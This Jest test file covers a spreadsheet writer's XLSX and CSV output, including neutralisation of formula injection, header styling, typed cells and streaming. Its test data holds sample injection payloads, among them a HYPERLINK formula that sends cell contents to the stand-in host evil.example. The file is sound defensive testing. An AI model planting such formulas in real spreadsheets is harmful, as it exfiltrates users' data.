import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildConfig } from '../config/config.js';
import { SpreadsheetService } from './spreadsheet.service.js';
import { neutralizeFormula, SpreadsheetWriter } from './spreadsheet-writer.js';
import { ZipDirectory } from './zip-directory.js';

const spreadsheets = new SpreadsheetService(buildConfig({}));
const DANGEROUS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1+1',
];

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'conveyor-writer-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function entryText(path: string, name: string): Promise<string> {
  const zip = await ZipDirectory.open(path);
  const stream = await zip.openEntry(zip.get(name)!);
  let text = '';
  for await (const chunk of stream) text += (chunk as Buffer).toString('utf8');
  return text;
}

/** "Generated text": what a module writes after filling a template with row data. */
function generatedEmail(company: string): string {
  return `${company} — thanks for your interest`;
}

describe('neutralizeFormula', () => {
  it('prefixes text a spreadsheet would run, and only that', () => {
    expect(DANGEROUS.map(neutralizeFormula)).toEqual(DANGEROUS.map((text) => `'${text}`));
    expect(['plain', ' =1', '1+1', 'a@b.c', '', "'quoted"].map(neutralizeFormula)).toEqual([
      'plain',
      ' =1',
      '1+1',
      'a@b.c',
      '',
      "'quoted",
    ]);
  });
});

describe('XLSX writer', () => {
  it('writes formula-looking input and generated text as inert text: no <f> in the sheet XML', async () => {
    const path = join(dir, 'dangerous.xlsx');
    const writer = spreadsheets.createFileWriter(path, {
      format: 'xlsx',
      columns: ['Input', 'Generated', 'Model output', '=Header'],
    });
    // A model that answers with a formula is generated text too.
    const answers = [...DANGEROUS].reverse();
    for (const [i, text] of DANGEROUS.entries()) {
      await writer.addRow([text, generatedEmail(text), answers[i], 1]);
    }
    await writer.finish();

    const xml = await entryText(path, 'xl/worksheets/sheet1.xml');
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(xml).toContain('<sheetData>');
    // Every dangerous value (input column and generated column) starts with the apostrophe.
    const reader = await spreadsheets.open(path);
    expect(reader.headers).toEqual(['Input', 'Generated', 'Model output', "'=Header"]);
    const rows = await reader.toArray();
    // XML (any XML parser, Excel's included) reads a bare CR in text as LF.
    const inXml = (text: string): string => text.replace(/\r/g, '\n');
    expect(rows.map((row) => row.cells[0])).toEqual(DANGEROUS.map((text) => inXml(`'${text}`)));
    expect(rows.map((row) => row.cells[1])).toEqual(
      DANGEROUS.map((text) => inXml(`'${generatedEmail(text)}`)),
    );
    expect(rows.map((row) => row.cells[2])).toEqual(answers.map((text) => inXml(`'${text}`)));
    expect(rows.map((row) => row.cells[3])).toEqual(DANGEROUS.map(() => '1'));
  });

  it('has a bold, frozen header row with a filter and widths that fit the content', async () => {
    const path = join(dir, 'styled.xlsx');
    const writer = SpreadsheetWriter.toFile(path, {
      format: 'xlsx',
      columns: ['Id', 'A rather long column header', 'Email'],
      sheetName: 'Results: [final]',
    });
    await writer.addRow([1, 'x', 'someone.with.a.long.address@example.com']);
    await writer.addRow({ Id: 2, Email: 'b@example.com', 'A rather long column header': 'y' });
    await writer.finish();

    const sheet = await entryText(path, 'xl/worksheets/sheet1.xml');
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(sheet).toMatch(/<autoFilter ref="A1:C1"/);
    const widths = [...sheet.matchAll(/<col [^>]*width="([\d.]+)"/g)].map((match) =>
      Number(match[1]),
    );
    expect(widths).toHaveLength(3);
    expect(widths[0]).toBe(8); // the minimum
    expect(widths[1]).toBeGreaterThanOrEqual('A rather long column header'.length);
    expect(widths[2]).toBeGreaterThanOrEqual('someone.with.a.long.address@example.com'.length);
    const headerStyle = Number(/<c r="A1" s="(\d+)"/.exec(sheet)![1]);
    const styles = await entryText(path, 'xl/styles.xml');
    const xf = [...styles.matchAll(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/g)][0][1].match(
      /<xf [^>]*>/g,
    )![headerStyle];
    const fontId = Number(/fontId="(\d+)"/.exec(xf)![1]);
    const font = styles.match(/<font>[\s\S]*?<\/font>/g)![fontId];
    expect(font).toContain('<b/>');
    expect(await entryText(path, 'xl/workbook.xml')).toContain('name="Results   final"');

    const reader = await spreadsheets.open(path);
    expect(await reader.toArray()).toEqual([
      expect.objectContaining({
        number: 2,
        cells: ['1', 'x', 'someone.with.a.long.address@example.com'],
      }),
      expect.objectContaining({ number: 3, cells: ['2', 'y', 'b@example.com'] }),
    ]);
  });

  it('writes numbers, booleans and dates as typed cells that read back', async () => {
    const path = join(dir, 'types.xlsx');
    const writer = SpreadsheetWriter.toFile(path, {
      format: 'xlsx',
      columns: ['n', 'b', 'd', 't', 'empty'],
    });
    await writer.addRow([
      -1.5,
      true,
      new Date('2024-03-15T00:00:00Z'),
      new Date('2024-03-15T14:30:00Z'),
      null,
    ]);
    await writer.finish();
    const reader = await spreadsheets.open(path);
    expect((await reader.toArray())[0].cells).toEqual([
      '-1.5',
      'TRUE',
      '2024-03-15',
      '2024-03-15T14:30:00',
    ]);
  });

  it('streams 20,000 rows in order', async () => {
    const path = join(dir, 'many.xlsx');
    const writer = SpreadsheetWriter.toFile(path, { format: 'xlsx', columns: ['n', 'text'] });
    for (let i = 0; i < 20_000; i++) await writer.addRow([i, `row ${i}`]);
    await writer.finish();
    const reader = await spreadsheets.open(path);
    let expected = 0;
    for await (const row of reader) {
      expect(row.cells).toEqual([String(expected), `row ${expected}`]);
      expected++;
    }
    expect(expected).toBe(20_000);
  });
});

describe('CSV writer', () => {
  it('writes UTF-8 with a BOM and CRLF, quotes what needs quoting, neutralises formulas', async () => {
    const path = join(dir, 'out.csv');
    const writer = SpreadsheetWriter.toFile(path, {
      format: 'csv',
      columns: ['name', 'note', '@when'],
    });
    await writer.addRow(['Zoë', 'says "hi", twice\nnewline', new Date('2024-01-02T00:00:00Z')]);
    for (const text of DANGEROUS) await writer.addRow([text, generatedEmail(text), true]);
    await writer.finish();
    const bytes = await readFile(path);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.split('\r\n').slice(0, 3)).toEqual([
      "name,note,'@when",
      'Zoë,"says ""hi"", twice\nnewline",2024-01-02',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click me"")","'=HYPERLINK(""https://evil.example/?d=""&A1,""Click me"") — thanks for your interest",TRUE`,
    ]);
    const reader = await spreadsheets.open(path);
    const rows = await reader.toArray();
    expect(rows.slice(1).map((row) => row.cells[0])).toEqual(DANGEROUS.map((value) => `'${value}`));
  });

  it('removes the file when the destination fails', async () => {
    const writer = SpreadsheetWriter.toFile(join(dir, 'missing-dir', 'out.csv'), {
      format: 'csv',
      columns: ['a'],
    });
    await writer.addRow(['x']);
    await expect(writer.finish()).rejects.toThrow(/ENOENT/);
  });
});
